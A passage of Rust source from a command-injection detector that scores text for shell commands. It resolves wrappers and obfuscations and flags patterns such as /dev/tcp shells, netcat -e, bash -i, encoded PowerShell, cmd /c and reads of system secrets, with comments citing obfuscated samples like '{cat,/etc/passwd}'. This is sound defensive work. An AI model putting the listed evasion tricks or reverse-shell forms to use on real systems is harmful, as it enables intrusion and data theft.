        let ifs_split = ifs && !matches!(how, How::Obfuscated(_) | How::Glob | How::Brace);
        if ifs_split {
            score += 0.35;
        }
        if danger.is_some() {
            score += 0.4;
        }
        if value_start && strong.as_slice() == ["redirection"] {
            // "if size > limit": a lone '>' in a whole value is a comparison as often as not.
            strong.clear();
            medium = true;
        }
        let mut medium_only = false;
        if !strong.is_empty() {
            score += (0.3 + 0.1 * (strong.as_slice().len() - 1) as f32).min(0.45);
            if medium {
                score += 0.1;
            }
        } else if medium && value_start && plain > 0 {
            // "sleep 8 hours": a number among words is prose.
        } else if medium {
            score += 0.15;
            medium_only = true;
        } else if danger.is_some() {
            // Subcommands and parameters of a dangerous command are words.
        } else if ctx < 0.45 && plain >= 2 {
            score -= 0.2;
        } else if ctx < 0.45 && plain == 1 {
            score -= 0.05;
        }
        if plain >= 3 && danger.is_none() {
            // A sentence, not an argument list.
            score -= 0.25;
        }

        // What ends the command.
        let after = toks.get(seg_end);
        // Only line breaks left: a form field's trailing newline does not continue the value.
        let value_ends = toks[seg_end..].iter().all(|t| {
            matches!(
                t,
                Tok::Sep {
                    kind: SepKind::Newline,
                    ..
                }
            )
        });
        let glued_terminator = matches!(
            after,
            Some(Tok::Sep { space_before: false, kind, .. }) if *kind != SepKind::Newline
        );
        // Only separators and comments after the terminator: the value is "cmd;" or "cmd #".
        let value_is_command = matches!(op, Opener::ValueStart)
            && toks[seg_end..]
                .iter()
                .all(|t| matches!(t, Tok::Sep { .. } | Tok::Comment));
        let last_tail_quote = match toks[ci..seg_end]
            .iter()
            .rev()
            .find(|t| matches!(t, Tok::Word(_)))
        {
            Some(Tok::Word(w)) => w.tail_quote,
            _ => false,
        };
        let probe = nargs == 0
            && (value_start || after_data)
            && value_ends
            && builtins::PROBES.contains(&lname);
        if probe {
            score += 0.2;
        }
        // "time; less is more": a wrapper that is also an English word ("time", "nice"),
        // wrapping nothing, opens a sentence as often as a command line.
        let idle_wrapper = value_start
            && builtins::WRAPPERS.contains(&lname)
            && !builtins::STRONG_WRAPPERS.contains(&lname);
        let mut ending = None;
        if nargs == 0 {
            if idle_wrapper {
                // No terminator bonus: see above.
            } else if value_is_command && (comment || glued_terminator) {
                score += 0.35;
                ending = Some("the whole value is the command and a terminator");
            } else if comment || glued_terminator || last_tail_quote {
                score += 0.2;
                ending = Some("then a terminator");
            } else if value_ends {
                score += 0.1;
                ending = Some("ending the value");
            }
        } else if comment || glued_terminator || last_tail_quote {
            score += 0.1;
            ending = Some("then a terminator");
        }
        if self.table_row {
            score -= 0.3;
        }
        if self.transcript {
            score -= 0.3;
        }
        let prose_line = matches!(
            op,
            Opener::Sep {
                kind: SepKind::Newline,
                prefix: Prefix::Prose | Prefix::Other | Prefix::UrlParam,
                ..
            }
        );
        if prose_line && danger.is_none() {
            // Documentation shows command lines on lines of their own.
            score = score.min(THRESHOLD - 0.05);
        }
        if matches!(op, Opener::Subst { weak: true, .. }) {
            // A markdown code span never flags by itself, whatever it contains.
            score = score.min(THRESHOLD - 0.05);
        }
        let piped = sep.is_some_and(|s| {
            matches!(
                toks.get(s),
                Some(Tok::Sep {
                    kind: SepKind::Pipe,
                    ..
                })
            )
        });
        let interp_after_pipe = piped && builtins::INTERPRETERS.contains(&lname);
        let fetcher = builtins::FETCHERS.contains(&lname);
        Some(Cand {
            scored: Scored {
                score,
                evidence: Evidence::Command(Box::new(Why {
                    opener: shown,
                    how,
                    name,
                    wrapper,
                    tool,
                    ifs: ifs_split,
                    danger,
                    strong,
                    medium_only,
                    probe,
                    ending,
                    tails: Vec::new(),
                })),
            },
            sep,
            seg_end,
            interp_after_pipe,
            fetcher,
        })
    }

    /// The command word of the segment starting at `i`, looking through wrappers
    /// (`sudo`, `nohup`, `env A=b`, `time`).
    fn resolve_at(
        &mut self,
        toks: &[Tok],
        i: usize,
        seg_end: usize,
    ) -> Option<(usize, String, How, Option<String>)> {
        let mut j = i;
        let mut wrapper: Option<(usize, String, How)> = None;
        let mut wrapper_name: Option<String> = None;
        let mut wrapper_obf: Option<&'static str> = None;
        let mut empty_var = false;
        for _ in 0..4 {
            if j >= seg_end {
                break;
            }
            let Some(Tok::Word(w)) = toks.get(j) else {
                break;
            };
            if matches!(&*w.text, "$SHELL" | "${SHELL}" | "$BASH") {
                return Some((j, w.text.to_string(), How::Variable, wrapper_name));
            }
            if let Some(name) = variable_name(&w.text) {
                if self.assigned.iter().any(|a| a == name) {
                    // `CMD=...;$CMD`: the value defines what it runs.
                    return Some((j, w.text.to_string(), How::Variable, None));
                }
                if w.text.len() == name.len() + 1 {
                    // An unset `$a` expands to nothing: the next word is the command.
                    empty_var = true;
                    j += 1;
                    continue;
                }
                return None;
            }
            if let Some(found) = self.scheduled_or_inline(toks, j, seg_end) {
                return Some(found);
            }
            // `. shell id`: the sqlite3 shell reads the dot-command's name after a space too.
            let lone_dot = w.text == "."
                && matches!(toks.get(j + 1), Some(Tok::Word(n)) if j + 1 < seg_end
                    && builtins::sqlite_shell_name(&n.text));
            if lone_dot {
                wrapper_name = Some(".shell".into());
                j += 2;
                continue;
            }
            if builtins::is_wrapper(w.text.as_bytes()) || builtins::sqlite_shell(&w.text) {
                if wrapper.is_none() {
                    wrapper = self.resolve(w).map(|(n, h)| (j, n, h));
                    wrapper_name = Some(w.text.to_string());
                    wrapper_obf = obfuscation(w);
                }
                let cmd_exe = w.text == "start";
                j += 1;
                // The wrapper's own options and their values (`nice -n 10`, `timeout 5s`,
                // `cpulimit -l 100 -f`, cmd.exe's `start /b /min`) come before the command.
                while j < seg_end {
                    match toks.get(j) {
                        Some(Tok::Word(x))
                            if x.text.starts_with('-')
                                || (cmd_exe && is_cmd_switch(&x.text))
                                || is_assignment(&x.text)
                                || is_option_value(&x.text) =>
                        {
                            j += 1
                        }
                        _ => break,
                    }
                }
                continue;
            }
            if let Some((n, h)) = self.resolve(w) {
                let h = match h {
                    How::Plain | How::AbsPath if empty_var => How::Obfuscated("an empty variable"),
                    // `ti''me who`: quotes or escapes inside the wrapper's name hide it too.
                    How::Plain | How::AbsPath if wrapper_obf.is_some() => {
                        How::Obfuscated(wrapper_obf.unwrap_or("quotes"))
                    }
                    h => h,
                };
                return Some((j, n, h, wrapper_name));
            }
            break;
        }
        wrapper.map(|(j, n, h)| (j, n, h, None))
    }

    /// The separator at `sep` follows a lone known command word at a command position, and
    /// `name` (the command after it) is an attack or administration tool.
    fn follows_lone_command(&self, toks: &[Tok], sep: Option<usize>, name: &str) -> bool {
        let Some(s) = sep.filter(|&s| s >= 1) else {
            return false;
        };
        let Some(Tok::Word(prev)) = toks.get(s - 1) else {
            return false;
        };
        let lone = s == 1 || matches!(toks.get(s - 2), Some(Tok::Sep { .. } | Tok::LParen));
        lone && self.det.tools && is_tool(name) && self.det.known(&prev.text)
    }

    /// A command carried inside one quoted word at `j`: a sqlite3 dot-command whose quote runs
    /// on into its command (`."shell whoami`), or a job handed to `at` (`at 2:00 "echo x"`:
    /// `at` is an English word, so only with a time and a quoted command that names one).
    fn scheduled_or_inline(
        &mut self,
        toks: &[Tok],
        j: usize,
        seg_end: usize,
    ) -> Option<(usize, String, How, Option<String>)> {
        let Some(Tok::Word(w)) = toks.get(j) else {
            return None;
        };
        if builtins::sqlite_shell(&w.text) {
            let inner = builtins::sqlite_inline_command(&w.text)?;
            let (name, _) = self.lookup(inner)?;
            return Some((j, name, How::Plain, Some(".shell".into())));
        }
        if w.text != "at" || j + 2 >= seg_end {
            return None;
        }
        let (Some(Tok::Word(time)), Some(Tok::Word(job))) = (toks.get(j + 1), toks.get(j + 2))
        else {
            return None;
        };
        if !builtins::at_time(&time.text) || job.quote_opens == 0 {
            return None;
        }
        let first = job.text.split_whitespace().next()?;
        let (name, _) = self.lookup(first)?;
        Some((j + 2, name, How::Plain, Some("at".into())))
    }

    fn resolve(&mut self, w: &Word) -> Option<(String, How)> {
        let text = &*w.text;
        if text.is_empty() {
            return None;
        }
        if let Some(first) = brace_expansion_first(text) {
            let unset = w
                .without_vars()
                .and_then(|t| brace_expansion_first(&t))
                .unwrap_or_else(|| without_variables(&first, false));
            let (name, _) = self.lookup(&first).or_else(|| self.lookup(&unset))?;
            return Some((name, How::Brace));
        }
        if matches!(text, "$SHELL" | "$BASH" | "$COMSPEC")
            || (self.det.tools && text.eq_ignore_ascii_case("$env:comspec"))
        {
            // Variables that name the shell itself.
            return Some((text.to_string(), How::Variable));
        }
        if text.starts_with('$') {
            // A variable names no command this machine has.
            return None;
        }
        if self.det.tools {
            // `C:\Windows\System32\whoami.exe`: the POSIX reading took the backslashes as
            // escapes, the source still has them.
            let windows_path = w
                .escaped
                .then(|| self.src.get(w.start..w.end))
                .flatten()
                .and_then(windows_program);
            if let Some(base) = windows_path.filter(|b| self.det.known(b)) {
                return Some((base.to_string(), How::AbsPath));
            }
            // `@whoami`: cmd.exe's '@' turns off the echo of the command it starts.
            if let Some(rest) = text.strip_prefix('@').filter(|r| is_tool(r)) {
                return Some((rest.to_string(), How::Plain));
            }
            // `cmd/cwhoami`, `cmd,/c,whoami`: cmd.exe ends its own name at `/`, `,`, `;`, `=`.
            if cmd_glued(text) {
                return Some(("cmd".to_string(), How::Obfuscated("cmd.exe's delimiters")));
            }
        }
        if self.det.tools && is_cmd_variable(text) && spells_program(text) {
            // `%COMSPEC%`, `%ProgramFiles:~10,1%`: cmd.exe expands it to a program.
            return Some((text.to_string(), How::Obfuscated("a cmd.exe variable")));
        }
        let (name, how) = match self.lookup(text) {
            Some(found) => found,
            // `uname$u`, `c$_at`: variables the value never set expand to nothing.
            None if w.var => [w.without_vars(), Some(without_variables(text, true))]
                .into_iter()
                .flatten()
                .flat_map(|t| {
                    // A backslash left in the name (`cu$v\\r\l`) is no part of a Unix command.
                    let bare = t.contains('\\').then(|| t.replace('\\', ""));
                    [Some(t), bare]
                })
                .flatten()
                .filter(|t| !t.is_empty() && t != text)
                .find_map(|t| self.lookup(&t))
                .map(|(n, _)| {
                    // A name ending in `$x` is as often a password or a template as a trick.
                    let how = if w.only_trailing_var() {
                        How::Plain
                    } else {
                        How::Obfuscated("an empty variable")
                    };
                    (n, how)
                })?,
            None => return None,
        };
        match (obfuscation(w), how) {
            (Some(o), How::Plain | How::AbsPath) => Some((name, How::Obfuscated(o))),
            _ => Some((name, how)),
        }
    }

    /// A command name, an absolute path to one, or a glob matching one.
    fn lookup(&mut self, text: &str) -> Option<(String, How)> {
        let wildcards = text
            .bytes()
            .filter(|&c| c == b'?' || c == b'*' || c == b'[')
            .count();
        if let Some(p) = text.bytes().rposition(|c| c == b'/') {
            // `usr/bin/id`: a program directory with its leading slash dropped (a value
            // appended to a path, or a filter that strips a leading '/').
            let in_program_dir = program_dir(&text[..p]);
            if !text.starts_with('/') && !in_program_dir {
                return None;
            }
            if !in_program_dir && is_route(text) {
                // `/api/v1/users`: a route or a URL path. The shell runs the file at the path,
                // and standard systems keep programs under none of these directories.
                return None;
            }
            let base = &text[p + 1..];
            if wildcards > 0 {
                let literal = base.bytes().any(|c| c.is_ascii_alphanumeric());
                return if literal {
                    self.glob(base).map(|n| (n, How::Glob))
                } else {
                    None
                };
            }
            // Only a program directory makes the path a strong sign ("/api/test" is a route).
            let how = if needle::has(&text[..p], "bin") {
                How::AbsPath
            } else {
                How::Plain
            };
            if self.det.known(base) {
                return Some((base.to_string(), how));
            }
            // `/bin/ab`: whatever this machine has, a file in a program directory is a program.
            return (in_program_dir && program_file_name(base))
                .then(|| (base.to_string(), How::AbsPath));
        }
        if wildcards > 0 {
            // Prose ends questions with "?": only inner wildcards with two letters count.
            let letters = text.bytes().filter(|c| c.is_ascii_alphabetic()).count();
            let inner = !text.ends_with('?') || wildcards >= 2;
            // `*word*`, `**word**`: markdown emphasis. Open at both ends, it would match any
            // name holding the letters: a spelling of a command fixes one end at least (`c?t`).
            let anchored = !(text.starts_with('*') && text.ends_with('*'));
            // `user*`: a prefix search, matching any name so begun; `user[password]`,
            // `page[number]`: a parameter's key in brackets, not a class hiding one letter.
            let search = wildcards == 1 && text.ends_with('*');
            return if letters >= 2 && inner && anchored && !search && !has_key_brackets(text) {
                self.glob(text).map(|n| (n, How::Glob))
            } else {
                None
            };
        }
        if self.det.known(text) {
            return Some((text.to_string(), How::Plain));
        }
        unversioned(text)?
            .into_iter()
            .find(|n| self.det.known(n))
            .map(|n| (n.to_string(), How::Plain))
    }

    fn glob(&mut self, pattern: &str) -> Option<String> {
        if self.globs >= MAX_GLOBS || pattern.len() > 64 {
            return None;
        }
        self.globs += 1;
        self.det.glob(pattern)
    }
}

/// Whether `text` holds a bracket pair around a name of three or more word bytes
/// (`user[password]`, `page[number]`): the key notation of Rails, PHP and JSON:API forms. A
/// class that hides a letter holds that letter (`c[a]t`), a range (`[a-z]`) or a negation.
fn has_key_brackets(text: &str) -> bool {
    text.split('[').skip(1).any(|rest| {
        rest.split_once(']').is_some_and(|(inside, _)| {
            inside.len() >= 3
                && inside
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'_')
        })
    })
}

/// How a word hides its own spelling from a literal match, if it does.
fn obfuscation(w: &Word) -> Option<&'static str> {
    if w.escaped {
        Some("backslashes")
    } else if w.split_by_quotes() {
        Some("quotes")
    } else if w.caret {
        Some("carets")
    } else if w.hidden_expansion {
        Some("empty expansions")
    } else {
        None
    }
}

/// A number or duration a wrapper option takes (`10`, `5s`, `2.5m`, `50%`).
fn is_option_value(t: &str) -> bool {
    let digits = t.trim_end_matches(['s', 'm', 'h', 'd', '%']);
    digits.len() + 1 >= t.len() && is_number(digits)
}

/// A command attackers use whether or not this machine has it.
fn is_tool(name: &str) -> bool {
    if lists().tools.contains(name) || is_cmdlet(name) {
        return true;
    }
    let lower = lower_case(name);
    let stem = lower.strip_suffix(".exe").unwrap_or(&lower);
    lists().windows_tools.contains(stem)
}

/// The program file of a Windows system path (`C:\Windows\System32\whoami.exe`,
/// `%SystemRoot%\System32\cmd.exe`, `%WINDIR%\...\powershell.exe`): a drive or a variable,
/// then a directory of Windows itself.
fn windows_program(raw: &str) -> Option<&str> {
    let b = raw.as_bytes();
    let (root_var, rest) = if b.len() > 3 && b[0].is_ascii_alphabetic() && &b[1..3] == b":\\" {
        (false, &raw[3..])
    } else if b.first() == Some(&b'%') {
        let close = raw[1..].find('%')? + 1;
        let var = &raw[1..close];
        let rest = raw[close + 1..].strip_prefix('\\')?;
        let system = var.eq_ignore_ascii_case("systemroot") || var.eq_ignore_ascii_case("windir");
        (system, rest)
    } else {
        return None;
    };
    let (dirs, base) = rest.rsplit_once('\\')?;
    let windows_dir = dirs.split('\\').any(|d| {
        [
            "windows",
            "system32",
            "syswow64",
            "sysnative",
            "windowspowershell",
        ]
        .iter()
        .any(|w| d.eq_ignore_ascii_case(w))
    });
    ((root_var || windows_dir) && !base.is_empty()).then_some(base)
}

/// `cmd/c...`, `cmd.exe/k...`, `cmd,/c,...`: cmd.exe's name glued to its switch.
fn cmd_glued(text: &str) -> bool {
    let b = text.as_bytes();
    let name = if needle::starts_with_nocase(b, b"cmd.exe") {
        7
    } else if needle::starts_with_nocase(b, b"cmd") {
        3
    } else {
        return false;
    };
    let rest = &b[name..];
    let rest = rest
        .iter()
        .position(|c| !matches!(c, b',' | b';' | b'='))
        .map_or(&b""[..], |p| &rest[p..]);
    rest.len() > 2 && rest[0] == b'/' && matches!(rest[1] | 0x20, b'c' | b'k')
}

/// A cmd.exe switch: `/` and one to eight letters (`/b`, `/min`, `/wait`).
fn is_cmd_switch(text: &str) -> bool {
    text.strip_prefix('/')
        .is_some_and(|n| (1..=8).contains(&n.len()) && n.bytes().all(|c| c.is_ascii_alphabetic()))
}

/// The program directories of Unix systems, with or without their leading slash (a value
/// appended to a path, or a filter that strips a leading '/').
fn program_dir(dir: &str) -> bool {
    matches!(
        dir.strip_prefix('/').unwrap_or(dir),
        "bin" | "sbin" | "usr/bin" | "usr/sbin" | "usr/local/bin" | "usr/local/sbin"
    )
}

/// Whether absolute `path` reads as a route (`/api/v1/users`), not a program the shell could
/// run: no wildcard (`/app/b?n/s?`), no `..` (`/app/../bin`; `/bin/..` is `/usr` where /bin
/// links to usr/bin), no `bin` or `sbin` directory (`/app/bin/sh`), no shell or interpreter as
/// its file (`/busybox/sh`), and a first directory (`//bin` and `/./usr` are `/bin` and `/usr`)
/// that systems do not keep at their root: the Filesystem Hierarchy Standard's, and where snap,
/// Nix, Guix, Android and macOS put programs (`/data/local/tmp` is Android's writable one).
fn is_route(path: &str) -> bool {
    let (dir, base) = path.rsplit_once('/').unwrap_or(("", path));
    let first = path
        .split('/')
        .find(|seg| !matches!(*seg, "" | "."))
        .unwrap_or("");
    !path.bytes().any(|c| matches!(c, b'?' | b'*' | b'['))
        && !dir.split('/').any(|d| matches!(d, ".." | "bin" | "sbin"))
        && !builtins::INTERPRETERS.contains(&base)
        && base != "busybox"
        && !matches!(
            first,
            "bin"
                | "boot"
                | "dev"
                | "etc"
                | "home"
                | "lib"
                | "lib32"
                | "lib64"
                | "media"
                | "mnt"
                | "opt"
                | "proc"
                | "root"
                | "run"
                | "sbin"
                | "srv"
                | "sys"
                | "tmp"
                | "usr"
                | "var"
                | "snap"
                | "nix"
                | "gnu"
                | "system"
                | "private"
                | "data"
        )
}

/// A file name a program directory may hold (`ab`, `visudo`, `python3.11`): a command by its
/// location even when this machine lacks it.
fn program_file_name(base: &str) -> bool {
    (2..=32).contains(&base.len())
        && base.as_bytes()[0].is_ascii_lowercase()
        && base
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'+'))
}

/// `gcc10.1`, `python3.10`, `php7.4`: a dotted version glued to a command name, as distributions
/// install side by side versions. Returns the names to try, the most specific first
/// (`python3.10` -> `python3`, `python`); None when the word has no dotted version.
fn unversioned(name: &str) -> Option<[&str; 2]> {
    let b = name.as_bytes();
    let tail = b
        .iter()
        .rev()
        .take_while(|c| c.is_ascii_digit() || **c == b'.')
        .count();
    let version = &name[name.len() - tail..];
    let stem = &name[..name.len() - tail];
    // The stem first: most words fail it ("127.0.0.1" has none).
    if stem.len() < 2 || !stem.bytes().all(|c| c.is_ascii_lowercase()) {
        return None;
    }
    let dotted = version.contains('.')
        && !version.starts_with('.')
        && !version.ends_with('.')
        && !needle::has(version, "..");
    if !dotted {
        return None;
    }
    let major = version.split('.').next().unwrap_or("");
    Some([&name[..stem.len() + major.len()], stem])
}

/// The name lists looked up for every word, hashed once (the slices are linear scans).
struct Lists {
    tools: HashSet<&'static str>,
    windows_tools: HashSet<&'static str>,
    windows: HashSet<&'static str>,
}

fn lists() -> &'static Lists {
    static LISTS: std::sync::OnceLock<Lists> = std::sync::OnceLock::new();
    LISTS.get_or_init(|| Lists {
        tools: builtins::TOOLS
            .iter()
            .chain(builtins::ADMIN_TOOLS)
            .copied()
            .collect(),
        windows_tools: builtins::WINDOWS_TOOLS.iter().copied().collect(),
        windows: builtins::WINDOWS.iter().copied().collect(),
    })
}

/// `s` with ASCII upper case lowered, borrowed when there is none (the common case).
fn lower_case(s: &str) -> std::borrow::Cow<'_, str> {
    if s.bytes().any(|b| b.is_ascii_uppercase()) {
        std::borrow::Cow::Owned(s.to_ascii_lowercase())
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// A PowerShell cmdlet name: `Verb-Noun`, both capitalized (`Invoke-WebRequest`), so that
/// English compounds ("add-on", "set-up") are not cmdlets.
fn is_cmdlet(name: &str) -> bool {
    // The verb is capitalized: most words are rejected before the search for '-'.
    if !name.as_bytes().first().is_some_and(u8::is_ascii_uppercase) {
        return false;
    }
    let Some(dash) = byte_position(name, b'-') else {
        return false;
    };
    let (verb, noun) = (&name[..dash], &name[dash + 1..]);
    let cap = |w: &str| w.bytes().next().is_some_and(|c| c.is_ascii_uppercase());
    cap(verb)
        && cap(noun)
        && noun.len() >= 3
        && noun.bytes().all(|c| c.is_ascii_alphanumeric())
        && builtins::PS_VERBS.contains(&verb.to_ascii_lowercase().as_str())
}

/// Whether a cmd.exe variable word (see [`is_cmd_variable`]) can stand for a program: the
/// shell's own `%COMSPEC%`, or a name built from pieces (`%a%%b%`, `%ProgramFiles:~10,1%`).
/// Any other variable alone names a directory or a setting (`%APPDATA%`), and one the
/// session lacks stays as typed: `%FIRST_NAME%` is a mail-merge field, `%brien%` a search.
fn spells_program(text: &str) -> bool {
    text.eq_ignore_ascii_case("%comspec%") || text.contains(':') || text.matches('%').count() > 2
}

/// `%NAME%` or `%NAME:~start,len%` (one or more): a cmd.exe environment variable.
fn is_cmd_variable(text: &str) -> bool {
    let b = text.as_bytes();
    b.len() >= 3
        && b[0] == b'%'
        && b[b.len() - 1] == b'%'
        && b[1].is_ascii_alphabetic()
        && b.iter().filter(|&&c| c == b'%').count() % 2 == 0
        && b.iter().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, b'_' | b'%' | b':' | b'~' | b',' | b'-')
        })
}

/// The flag after which an interpreter's next argument is code (`python -c`, `perl -e`,
/// `php -r`, `powershell -Command`).
fn is_code_flag(cmd: &str, flag: &str) -> bool {
    builtins::INTERPRETERS.contains(&cmd)
        && matches!(
            flag.to_ascii_lowercase().as_str(),
            "-c" | "-e" | "-r" | "-command" | "/c" | "/k"
        )
}

/// An argument that makes the command an attack by itself, whatever the context.
fn dangerous_arg(cmd: &str, a: &Word, raw: &str, code_follows: bool) -> Option<&'static str> {
    // Lower-cased copies only for words with upper case (few).
    let t_lower = lower_case(&a.text);
    let t: &str = &t_lower;
    if needle::has(t, "/dev/tcp/") || needle::has(t, "/dev/udp/") {
        return Some("a shell connected to the network through /dev/tcp");
    }
    let is_path = t.contains(['/', '\\']) || raw.contains('\\');
    // The raw text keeps Windows backslashes that the shell reading removes.
    let r_lower = lower_case(raw);
    let r: &str = &r_lower;
    // Most raw words are the word itself: no second search then.
    if is_path
        && builtins::SECRETS
            .iter()
            .any(|s| needle::has(t, s) || (r != t && needle::has(r, s)))
    {
        return Some("reads a system secret");
    }
    let flag = t.starts_with('-') && t.len() > 1;
    if matches!(cmd, "which" | "whereis" | "where")
        && (is_tool(&a.text) || builtins::INTERPRETERS.contains(&t))
    {
        return Some("looks for an attack tool");
    }
    if cmd == "alias" && alias_definition(a.text.trim_start_matches(['\'', '"'])) {
        return Some("defines a shell alias");
    }
    if builtins::ADMIN_SUBCOMMANDS
        .iter()
        .any(|(c, subs)| *c == cmd && subs.contains(&t))
    {
        return Some("a Windows administration command");
    }
    match cmd {
        "nc" | "ncat" | "netcat" if flag && (t[1..].contains('e') || t == "-c") => {
            Some("netcat runs a program for a remote peer")
        }
        "bash" | "sh" | "zsh" | "dash" | "ksh" if t == "-i" => Some("an interactive shell"),
        "powershell" | "pwsh"
            if flag && t.len() >= 2 && "-encodedcommand".starts_with(t) && t != "-" =>
        {
            Some("an encoded PowerShell command")
        }
        "cmd" if t == "/c" || t == "/k" || t == "/r" => Some("cmd.exe runs a command line"),
        _ if builtins::FETCHERS.contains(&cmd) && needle::has(t, "://") => Some("fetches a URL"),
        _ if code_follows
            && [
                "socket",
                "exec",
                "system",
                "popen",
                "pty",
                "subprocess",
                "/bin/",
                "spawn",
            ]
            .iter()
            .any(|k| t.contains(k)) =>
        {
            Some("inline code that runs a shell or opens a socket")
        }
        _ => None,
    }
}

/// The name of the variable a word starts with (`$CMD`, `${CMD}`, `$c1$c2`).
fn variable_name(text: &str) -> Option<&str> {
    let rest = text.strip_prefix('$')?;
    let rest = rest.strip_prefix('{').unwrap_or(rest);
    let len = rest
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
        .count();
    let name = &rest[..len];
    name.bytes()
        .next()
        .filter(|c| !c.is_ascii_digit())
        .map(|_| name)
}

fn is_keyword(text: &str) -> bool {
    builtins::KEYWORDS.contains(&text)
}

/// The first word brace expansion makes of a word with a `{a,b}` list (`{cat,/etc/passwd}`,
/// `c{a,oun}t`, `{,id}`): prefix and suffix joined to each alternative, empty words dropped.
fn brace_expansion_first(text: &str) -> Option<String> {
    let open = byte_position(text, b'{')?;
    let close = open + text[open..].find('}')?;
    let inner = &text[open + 1..close];
    if !inner.contains(',') || inner.contains('{') {
        return None;
    }
    let (prefix, suffix) = (&text[..open], &text[close + 1..]);
    inner
        .split(',')
        .take(16)
        .map(|alt| format!("{prefix}{alt}{suffix}"))
        .find(|w| !w.is_empty())
}

/// `text` with every `$NAME` removed, as an unset variable expands; with `special`, only `$_`
/// (the shell's last argument, which attackers use as an empty string).
fn without_variables(text: &str, special: bool) -> String {
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && special && b.get(i + 1) == Some(&b'_') {
            i += 2;
            continue;
        }
        if b[i] == b'$'
            && !special
            && b.get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        {
            i += 1;
            while b
                .get(i)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
            {
                i += 1;
            }
            continue;
        }
        let len = text[i..].chars().next().map_or(1, char::len_utf8);
        out.push_str(&text[i..i + len]);
        i += len;
    }
    out
}

/// `name=value` where bash accepts the name as an alias (`ls-al`, `..`).
fn alias_definition(text: &str) -> bool {
    match text.find('=') {
        Some(p) if p > 0 => {
            let name = &text[..p];
            !name.starts_with('-')
                && name
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        }
        _ => false,
    }
}

/// `NAME=value` (shell assignment, also how query parameters look).
fn is_assignment(text: &str) -> bool {
    match byte_position(text, b'=') {
        Some(p) if p > 0 => {
            let name = &text[..p];
            name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
                && !name.as_bytes()[0].is_ascii_digit()
        }
        _ => false,
    }
}

/// Where the ASCII byte `c` first occurs in `text` (as `str::find` on the same char; words are
/// short, and a byte loop costs less than the memchr call behind `find`).
fn byte_position(text: &str, c: u8) -> Option<usize> {
    text.bytes().position(|b| b == c)
}

/// First argument that shows the "command" is a variable in a programming language.
fn is_code_operator(text: &str) -> bool {
    matches!(
        text,
        "=" | "==" | "===" | "+=" | "-=" | "=>" | ":=" | ":" | "!="
    ) || text.starts_with('.') && text.len() > 1 && text.as_bytes()[1].is_ascii_alphabetic()
}

fn arg_kind(w: &Word, raw: &str) -> ArgKind {
    let shell_subst = w
        .substs
        .iter()
        .any(|s| s.kind != SubstKind::Backtick || s.glued);
    if shell_subst || w.var || w.hidden_expansion || is_cmd_variable(&w.text) {
        return ArgKind::Expansion;
    }
    let t = &*w.text;
    let b = t.as_bytes();
    if b.is_empty() {
        return ArgKind::Other;
    }
    if t.len() <= 40
        && b[0] == b'-'
        && (b.get(1).is_some_and(|c| c.is_ascii_alphabetic())
            || (b.get(1) == Some(&b'-') && b.get(2).is_some_and(|c| c.is_ascii_alphanumeric())))
    {
        return ArgKind::Flag;
    }
    let rb = raw.as_bytes();
    // `c:\`, `c:/`, or a bare drive (`dir c:`).
    let drive = rb.len() >= 2
        && rb[0].is_ascii_alphabetic()
        && rb[1] == b':'
        && rb.get(2).is_none_or(|c| matches!(c, b'\\' | b'/'));
    if t.starts_with('/')
        || t.starts_with("~/")
        || t == "~"
        || t.starts_with("./")
        || t.starts_with("../")
        || t == "."
        || t == ".."
        || drive
        || raw.starts_with("\\\\")
    {
        return ArgKind::Path;
    }
    if t.contains(['*', '?']) && t.contains(['/', '.']) {
        return ArgKind::Glob;
    }
    if is_number(t) {
        return ArgKind::Number;
    }
    if is_host(t) || needle::has(t, "://") {
        return ArgKind::Host;
    }
    if let Some((stem, ext)) = t.rsplit_once('.') {
        let file = !stem.is_empty()
            && (1..=5).contains(&ext.len())
            && ext.bytes().all(|c| c.is_ascii_alphanumeric())
            && ext.bytes().any(|c| c.is_ascii_alphabetic())
            && !t.contains(char::is_whitespace);
        if file {
            return ArgKind::File;
        }
    }
    if is_prose_word(t) {
        ArgKind::Plain
    } else {
        ArgKind::Other
    }
}

fn is_number(t: &str) -> bool {
    !t.is_empty()
        && t.len() <= 20
        && t.bytes().next().is_some_and(|c| c.is_ascii_digit())
        && t.bytes()
            .all(|c| c.is_ascii_digit() || c == b'.' || c == b',')
        && t.bytes().filter(|&c| c == b'.' || c == b',').count() <= 1
}

/// An IPv4 address or a host name (`a.b`, last label alphabetic), optionally with a port.
fn is_host(t: &str) -> bool {
    // Byte scans: words are short, and ':' and '.' are ASCII.
    let b = t.as_bytes();
    let host = match b.iter().rposition(|&c| c == b':') {
        Some(p) if p + 1 < b.len() && b[p + 1..].iter().all(u8::is_ascii_digit) => &t[..p],
        _ => t,
    };
    if host.len() > 253 || !host.bytes().any(|c| c == b'.') {
        return false;
    }
    // One pass over the labels, without collecting them: every word after a separator is
    // asked whether it is a host.
    let (mut labels, mut short_numbers, mut last): (usize, bool, &[u8]) = (0, true, b"");
    for l in host.as_bytes().split(|&c| c == b'.') {
        let label_ok = !l.is_empty()
            && l.len() <= 63
            && l.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-');
        if !label_ok {
            return false;
        }
        labels += 1;
        short_numbers &= l.len() <= 3 && l.iter().all(u8::is_ascii_digit);
        last = l;
    }
    let ipv4 = labels == 4 && short_numbers;
    ipv4 || (last.len() >= 2 && last.iter().all(u8::is_ascii_alphabetic))
}

/// A word of prose: letters with inner apostrophes or hyphens and trailing punctuation.
fn is_prose_word(t: &str) -> bool {
    let core = t.trim_end_matches(['.', ',', '!', '?', ':', ')']);
    !core.is_empty()
        && core.chars().next().is_some_and(char::is_alphabetic)
        && core
            .chars()
            .all(|c| c.is_alphabetic() || matches!(c, '\'' | '-' | '\u{2019}'))
}

/// Shapes that are command execution by their structure alone, whatever commands this machine
